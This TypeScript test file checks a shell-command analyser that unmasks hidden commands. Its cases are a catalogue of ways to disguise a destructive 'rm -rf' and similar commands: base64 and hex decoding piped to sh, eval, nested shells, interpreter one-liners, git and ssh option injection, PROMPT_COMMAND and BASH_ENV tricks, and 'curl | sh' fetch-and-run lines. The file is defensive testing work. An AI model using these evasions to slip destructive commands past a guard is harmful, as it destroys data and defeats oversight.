// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the cases are shell text
// What a line would run, seen through quoting, wrappers, variables, decoders and nesting. Each case is a way in which a
// forbidden command has been hidden before; `opaque` cases must say so rather than guess in silence.
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { analyse } from './analyse.ts';
import { type AnalyseOptions, analysisLimits, emptyShellState, type ShellState } from './types.ts';

const runs = (line: string, options?: AnalyseOptions): string[] =>
  analyse(line, options).commands.map((c) => c.text);
const reasons = (line: string, options?: AnalyseOptions): string[] =>
  analyse(line, options).opaque.map((o) => `${o.why} ${o.where}`);

describe('analysis sees through', () => {
  const target = 'rm -rf /srv/x';
  const encoded = Buffer.from(target).toString('base64');
  const cases: readonly string[] = [
    target,
    `r''m -rf /srv/x`,
    `"rm" -rf '/srv/x'`,
    `\\rm -rf /srv/x`,
    `$'\\x72m' -rf /srv/x`,
    `$'\\162\\155' -rf /srv/x`,
    'rm${IFS}-rf${IFS}/srv/x',
    '{rm,-rf,/srv/x}',
    'a=rm; $a -rf /srv/x',
    'a=r b=m; $a$b -rf /srv/x',
    'a=xrm; ${a:1} -rf /srv/x',
    'a=RM; ${a,,} -rf /srv/x',
    'a=rmx; ${a%x} -rf /srv/x',
    'b=a a=rm; ${!b} -rf /srv/x',
    'a=(rm -rf /srv/x); ${a[@]}',
    'r$@m -rf /srv/x',
    '$nothing rm -rf /srv/x',
    '$(echo rm) -rf /srv/x',
    '`echo rm` -rf /srv/x',
    '$(printf "\\x72m") -rf /srv/x',
    '$(echo mr | rev) -rf /srv/x',
    '$(tr a-z n-za-m <<< ez) -rf /srv/x',
    '$(which rm) -rf /srv/x',
    '/bin/r? -rf /srv/x',
    'echo rm -rf /srv/x | sh',
    `echo ${encoded} | base64 -d | sh`,
    `base64 --decode <<< ${encoded} | bash`,
    `bash -c "$(echo ${encoded} | base64 -d)"`,
    `eval "$(echo ${encoded} | base64 -d)"`,
    `echo ${Buffer.from(target).toString('hex')} | xxd -r -p | bash`,
    `printf '\\162\\155 -rf /srv/x' | sh`,
    'bash <<< "rm -rf /srv/x"',
    'bash <<EOF\nrm -rf /srv/x\nEOF',
    "sh <<'EOF'\nrm -rf /srv/x\nEOF",
    'bash <(echo rm -rf /srv/x)',
    'source <(echo rm -rf /srv/x)',
    'echo "rm -rf /srv/x" > f.sh; sh f.sh',
    'cat > f.sh <<EOF\nrm -rf /srv/x\nEOF\nbash ./f.sh',
    'sudo rm -rf /srv/x',
    'sudo -u root -- rm -rf /srv/x',
    'sudo -E A=b env -u C D=e rm -rf /srv/x',
    'su - alice -c "rm -rf /srv/x"',
    'env -S "rm -rf /srv/x"',
    'nohup nice -n 5 ionice -c 3 setsid stdbuf -oL timeout -k 1 5 rm -rf /srv/x &',
    'time rm -rf /srv/x',
    'command rm -rf /srv/x',
    'exec -a ls rm -rf /srv/x',
    'echo /srv/x | xargs rm -rf',
    'echo /srv/x | xargs -I% rm -rf %',
    'find /srv/x -exec rm -rf {} \\;',
    'find /srv/x -delete',
    'busybox rm -rf /srv/x',
    "sh -c 'rm -rf /srv/x'",
    "bash -lc 'rm -rf /srv/x'",
    `bash -c 'sh -c "rm -rf /srv/x"'`,
    `bash -c '"$@"' _ rm -rf /srv/x`,
    'watch -n 1 rm -rf /srv/x',
    'script -c "rm -rf /srv/x" /dev/null',
    'flock /tmp/l rm -rf /srv/x',
    'flock /tmp/l -c "rm -rf /srv/x"',
    'parallel rm -rf ::: /srv/x',
    'chroot /mnt rm -rf /srv/x',
    'nsenter -t 1 -m rm -rf /srv/x',
    'unshare -r rm -rf /srv/x',
    'systemd-run --unit u rm -rf /srv/x',
    'ssh -p 22 bob@web1 rm -rf /srv/x',
    "ssh -o ProxyCommand='rm -rf /srv/x' web1",
    'docker exec -it web rm -rf /srv/x',
    'docker run --rm -v /:/m alpine rm -rf /srv/x',
    'kubectl exec -n n pod -- rm -rf /srv/x',
    'echo rm -rf /srv/x | at now',
    'echo "* * * * * rm -rf /srv/x" | crontab -',
    'f() { rm -rf "$1"; }; f /srv/x',
    'alias x="rm -rf"; x /srv/x',
    "trap 'rm -rf /srv/x' EXIT",
    'for c in ls rm; do $c -rf /srv/x; done',
    'a=ls; true && a=rm; $a -rf /srv/x',
    'if true; then rm -rf /srv/x; fi',
    '(rm -rf /srv/x)',
    '{ rm -rf /srv/x; }',
    'true || rm -rf /srv/x',
    'case x in *) rm -rf /srv/x;; esac',
    'echo $(rm -rf /srv/x)',
    'echo "$(rm -rf /srv/x)"',
    'x=$(rm -rf /srv/x)',
    '[[ -n $(rm -rf /srv/x) ]]',
    'echo $((1 + $(rm -rf /srv/x)))',
    'cat < <(rm -rf /srv/x)',
    `python3 -c 'import os; os.system("rm -rf /srv/x")'`,
    `python -c 'import subprocess; subprocess.call(["rm", "-rf", "/srv/x"])'`,
    `perl -e 'system("rm -rf /srv/x")'`,
    `perl -e 'exec "rm -rf /srv/x"'`,
    `ruby -e 'exec "rm -rf /srv/x"'`,
    `node -e 'require("child_process").execSync("rm -rf /srv/x")'`,
    `php -r 'shell_exec("rm -rf /srv/x");'`,
    `awk 'BEGIN { system("rm -rf /srv/x") }'`,
    `lua -e 'os.execute("rm -rf /srv/x")'`,
    `vim -c ':!rm -rf /srv/x'`,
    `psql -c '\\! rm -rf /srv/x'`,
    'tar cf /dev/null x --checkpoint-action=exec="rm -rf /srv/x"',
    'PROMPT_COMMAND="rm -rf /srv/x"',
    'GIT_SSH_COMMAND="rm -rf /srv/x" git fetch',
    'rm \\\n-rf /srv/x',
    'ls; rm -rf /srv/x #',
  ];
  for (const line of cases) {
    it(line, () => {
      const expected =
        line.startsWith('/bin/r?') || line.includes('which')
          ? /^(\/bin\/)?rm -rf \/srv\/x$/
          : /^rm -rf \/srv\/x$/;
      expect(runs(line).some((t) => expected.test(t))).toBe(true);
    });
  }
});

describe('analysis sees through what ordinary programs and shells start besides', () => {
  const target = 'rm /srv/x';
  const cases: readonly string[] = [
    // Values that are expanded once more.
    `x='$(rm /srv/x)'; echo "\${x@P}"`,
    `x='a[$(rm /srv/x)]'; echo $((x))`,
    `x='$(rm '; y="\${x}/srv/x)"; echo "\${y@P}"`,
    `test -v 'a[$(rm /srv/x)]'`,
    `[[ -v 'a[$(rm /srv/x)]' ]]`,
    `printf -v 'a[$(rm /srv/x)]' x`,
    `let 'a[\`rm /srv/x\`]=1'`,
    `declare -n r='a[$(rm /srv/x)]'`,
    `printf -v PROMPT_COMMAND 'r%s /srv/x' m`,
    // Variables whose value runs, however they are set.
    `BASH_ENV='$(rm /srv/x)' bash -c true`,
    `env 'BASH_FUNC_ls%%=() { rm /srv/x; }' bash -c ls`,
    `env SHELLOPTS=xtrace PS4='$(rm /srv/x)' bash -c :`,
    `sudo PAGER='rm /srv/x' man ls`,
    // Words that are several, and the name of a script's own.
    `sh -c '"$@"' x rm /srv/x`,
    `a=(rm /srv/x); "\${a[@]}"`,
    `bash -c '$0 $1' rm /srv/x`,
    // zsh's and fish's own ways.
    '=rm /srv/x',
    '- rm /srv/x',
    'repeat 2 rm /srv/x',
    'for i (1 2) rm /srv/x',
    `print *(e:'rm /srv/x':)`,
    'hash -p /bin/rm ll; ll /srv/x',
    'hash ll=/bin/rm; ll /srv/x',
    `abbr -a ll 'rm /srv/x'`,
    `mapfile -C 'rm /srv/x' -c 1 < f`,
    // Programs that run what stands in their arguments.
    `git clone 'ext::rm% /srv/x'`,
    `git config alias.ll '!rm /srv/x'`,
    `git rebase -x 'rm /srv/x' HEAD`,
    'git bisect run rm /srv/x',
    `git submodule foreach 'rm /srv/x'`,
    `git filter-branch --tree-filter 'rm /srv/x'`,
    `git grep -O'rm /srv/x' word`,
    `git fetch --upload-pack='rm /srv/x' .`,
    `sed -n '1s|.*|rm /srv/x|e' f`,
    `ed <<< '!rm /srv/x'`,
    `dc -e '!rm /srv/x'`,
    `sqlite3 db '.shell rm /srv/x'`,
    `mysql -e 'pager rm /srv/x'`,
    `psql -c "\\setenv PAGER 'rm /srv/x'"`,
    `make --eval='x:;rm /srv/x' x`,
    `make -f - x <<< $'x:\n\trm /srv/x'`,
    `emacs --batch --eval '(shell-command "rm /srv/x")'`,
    `expect -c 'spawn rm /srv/x'`,
    `expect -c 'spawn sh; send "rm /srv/x\n"'`,
    `perl -e 'exec qw(rm /srv/x)'`,
    '/lib64/ld-linux-x86-64.so.2 /bin/rm /srv/x',
    `tmux send-keys -t 0 'rm /srv/x' Enter`,
    'tmux send rm Space /srv/x C-m',
    `tmux neww 'rm /srv/x'`,
    `tmux if-shell true "run 'rm /srv/x'"`,
    `tmux set-buffer $'rm /srv/x\n' \\; paste-buffer`,
    `screen -X stuff $'rm /srv/x\n'`,
    // Subscripts, other separators, and variables that run, set in every other way.
    'a[$(rm /srv/x)]=1',
    'echo ${a[$(rm /srv/x)]}',
    'a[`rm /srv/x`]+=1',
    'IFS=_; c=rm_/srv/x; $c',
    `IFS=']'; c='rm]/srv/x'; $c`,
    `compgen -W '$(rm /srv/x)'`,
    `PROMPT_COMMAND=(true 'rm /srv/x')`,
    `PROMPT_COMMAND+=';rm /srv/x'`,
    `PROMPT_COMMAND[1]='rm /srv/x'`,
    `read PROMPT_COMMAND <<< 'rm /srv/x'`,
    `mapfile PROMPT_COMMAND <<< 'rm /srv/x'`,
    `for PROMPT_COMMAND in 'rm /srv/x'; do :; done`,
    `for PS1 in '$(rm /srv/x)'; do :; done`,
    `: \${PROMPT_COMMAND:='rm /srv/x'}`,
    // Lines for a line editor, for a key, and for later.
    `print -z 'rm /srv/x'`,
    `print -rz -- rm /srv/x`,
    `commandline -r -- 'rm /srv/x'`,
    `function fish_prompt; commandline 'rm /srv/x'; end`,
    `zle -U 'rm /srv/x'`,
    `emulate sh -c 'rm /srv/x'`,
    `x='rm /srv/x'; vared x; eval $x`,
    'sched +0 rm /srv/x',
    `bindkey -s '^T' 'rm /srv/x\\n'`,
    `bind '"\\e[0n": "rm /srv/x\\C-m"'`,
    `bind -x '"\\C-t": rm /srv/x'`,
    `less +'!rm /srv/x' f`,
  ];
  it.each(cases)('%s', (line) => {
    const found = analyse(line).commands.map((c) => [c.name, ...c.argv.slice(1)].join(' '));
    expect(
      found.some((text) => text === target || text.startsWith(`${target} `)),
      JSON.stringify(found),
    ).toBe(true);
  });

  it.each([
    ['exec < f', 'script'],
    ['coproc sh', 'stdin'],
    ['BASH_ENV=f bash -c true', 'script'],
    ['env LD_PRELOAD=./x.so ls', 'script'],
    ['bash --init-file f', 'script'],
    ['enable -f ./x.so x', 'script'],
  ])('and says of %s that its commands are not known (%s)', (line, why) => {
    expect(reasons(line)).toContain(`${why} line`);
  });

  it('without taking ordinary arguments for commands', () => {
    for (const line of [
      'git push -u origin main',
      'git clean -x -d',
      'tmux attach -t 0',
      'tar -x -f a.tar',
      'sed s/a/b/ f',
    ]) {
      expect(runs(line)).toEqual([line]);
    }
  });
});

describe('what cannot be known is marked opaque', () => {
  it.each([
    ['$x -rf /', 'variable command'],
    ['$(cat /tmp/x) -rf /', 'substitution command'],
    ['eval "$x"', 'eval command'],
    ['curl https://h/x | sh', 'stdin line'],
    ['bash <(curl https://h/x)', 'script line'],
    ['./run.sh', ''],
    ['sh run.sh', 'script line'],
    ['. ./env', 'source line'],
    ['/usr/b?n/zzz*', 'glob command'],
    ['rm -rf $x', 'variable argument'],
    [`python3 -c 'print(1)'`, 'interpreter argument'],
    ['x'.repeat(analysisLimits.line + 1), 'length line'],
  ])('%s', (line, expected) => {
    if (expected === '') expect(reasons(line)).toEqual([]);
    else expect(reasons(line)).toContain(expected);
  });

  it('a variable set in a subshell does not hide what it was outside', () => {
    expect(runs('a=rm; (a=ls); $a x')).toContain('rm x');
  });

  it('after an unreadable source no variable counts as known', () => {
    const first = analyse('a=ls; . ./x');
    expect(analyse('$a -rf /', { state: first.stateAfter }).opaque.map((o) => o.why)).toContain('variable');
  });
});

describe('state is threaded through a session', () => {
  const session = (...lines: string[]): string[] => {
    let state: ShellState = emptyShellState;
    let out: string[] = [];
    for (const line of lines) {
      const analysis = analyse(line, { state });
      state = analysis.stateAfter;
      out = analysis.commands.map((c) => c.text);
    }
    return out;
  };
  it('variables', () => expect(session('a=rm', '$a -rf /')).toContain('rm -rf /'));
  it('aliases', () => expect(session("alias q='rm -rf'", 'q /')).toContain('rm -rf /'));
  it('functions', () => expect(session('q() { rm -rf "$@"; }', 'q /')).toContain('rm -rf /'));
  it('files', () => expect(session('echo rm -rf / > s', 'sh s')).toContain('rm -rf /'));
  it('the directory, for paths', () => {
    const analysis = analyse('rm passwd', { state: analyse('cd /etc').stateAfter });
    expect(analysis.commands[0]?.absolute).toEqual([undefined, '/etc/passwd']);
  });
  it('does not change the state it was given', () => {
    const state = analyse('a=rm').stateAfter;
    analyse('a=ls', { state });
    expect(runs('$a x', { state })).toContain('rm x');
  });
});

describe('completeness', () => {
  it.each([
    ['ls', 'none'],
    ['echo \\', 'continuation'],
    ['echo \\\\', 'none'],
    ['echo # \\', 'none'],
    ["echo 'a\\", 'quote'],
    ['echo "abc', 'quote'],
    ['echo $(ls', 'substitution'],
    ['cat <<EOF', 'here-document'],
    ['cat <<EOF\nx\nEOF', 'none'],
    ['ls |', 'operator'],
    ['ls &&', 'operator'],
    ['if true; then', 'compound'],
    ['for i in 1 2; do', 'compound'],
    ['f() {', 'compound'],
    ['(', 'compound'],
  ])('%s → %s', (line, expected) => {
    expect(analyse(line).incomplete).toBe(expected);
  });
});

describe('other grammars', () => {
  it('fish substitutes with brackets and sets variables by set', () => {
    expect(runs('set a rm; $a -rf /', { grammar: 'fish' })).toContain('rm -rf /');
    expect(runs('echo (rm -rf /)', { grammar: 'fish' })).toContain('rm -rf /');
    expect(runs('true; and rm -rf /', { grammar: 'fish' })).toContain('rm -rf /');
    expect(runs('if true; rm -rf /; end', { grammar: 'fish' })).toContain('rm -rf /');
    expect(analyse('if true', { grammar: 'fish' }).incomplete).toBe('compound');
  });
  it('csh sets variables with blanks round the sign and aliases without one', () => {
    expect(runs('set a = rm; $a -rf /', { grammar: 'csh' })).toContain('rm -rf /');
    expect(runs('alias q rm -rf; q /', { grammar: 'csh' })).toContain('rm -rf /');
  });
  it('network devices: words, filters, do', () => {
    expect(runs('do wr e', { grammar: 'network-cli' })).toEqual(['wr e']);
    expect(runs('show run | include x', { grammar: 'network-cli' })).toEqual(['show run', 'include x']);
  });
  it('SQL: statements without comments, and shells behind \\!', () => {
    expect(runs('drop/**/table t; -- x', { grammar: 'sql' })).toContain('drop table t');
    expect(runs('/*!50000 drop table t */', { grammar: 'sql' })).toContain('drop table t');
    expect(runs('\\! rm -rf /', { grammar: 'sql' })).toContain('rm -rf /');
    expect(runs("copy t to program 'rm -rf /'", { grammar: 'sql' })).toContain('rm -rf /');
  });
  it('python: commands in string literals', () => {
    expect(runs('os.system("rm -rf /")', { grammar: 'python' })).toContain('rm -rf /');
  });
});

describe('bounds', () => {
  const grammars = ['posix-shell', 'fish', 'csh', 'network-cli', 'sql', 'python'] as const;
  const pieces = fc.constantFrom(
    '$(',
    ')',
    '`',
    '"',
    "'",
    '\\',
    '{a,b}',
    '${x}',
    '$x',
    '|',
    '&&',
    ';',
    '\n',
    '<<E\n',
    'E\n',
    '<(',
    'sh -c ',
    'eval ',
    'rm ',
    'a=',
    'f(){',
    '}',
    'for i in ',
    'do ',
    'done',
    'xargs ',
    'sudo ',
    '((',
    '))',
    '[[',
    ']]',
    '!',
    '#',
    '\0',
    '\u{1f600}',
    '{1..9}',
    'alias a=',
    '$((',
  );
  it('arbitrary text never throws and stays within the limits', () => {
    fc.assert(
      fc.property(
        fc.oneof(
          fc.string({ unit: 'binary', maxLength: 200 }),
          fc.array(pieces, { maxLength: 60 }).map((p) => p.join('')),
        ),
        fc.constantFrom(...grammars),
        (text, grammar) => {
          const analysis = analyse(text, { grammar });
          expect(analysis.commands.length).toBeLessThanOrEqual(analysisLimits.commands + 1);
          expect(analysis.opaque.length).toBeLessThanOrEqual(analysisLimits.opacities);
        },
      ),
      { numRuns: 3_000 },
    );
  });
  it.each([
    ['nested substitutions', '$('.repeat(4_000)],
    ['nested brackets', '('.repeat(8_000)],
    ['braces that multiply', '{a,b}'.repeat(3_000)],
    ['functions that call each other', 'a(){ b; b; }; b(){ c; c; }; c(){ d; d; }; d(){ a; a; }; a'],
    ['eval upon eval', `${'eval '.repeat(2_000)}ls`],
    ['sudo upon sudo', `${'sudo '.repeat(3_000)}ls`],
    ['values that double', `a=xxxxxxxx; ${'a=$a$a; '.repeat(60)} $a`],
    ['quotes within quotes', `${'"$(echo '.repeat(1_000)}x${')"'.repeat(1_000)}`],
    ['many commands', 'ls;'.repeat(5_000)],
  ])('%s end soon', (_, line) => {
    const started = performance.now();
    analyse(line);
    expect(performance.now() - started).toBeLessThan(1_500);
  });
});
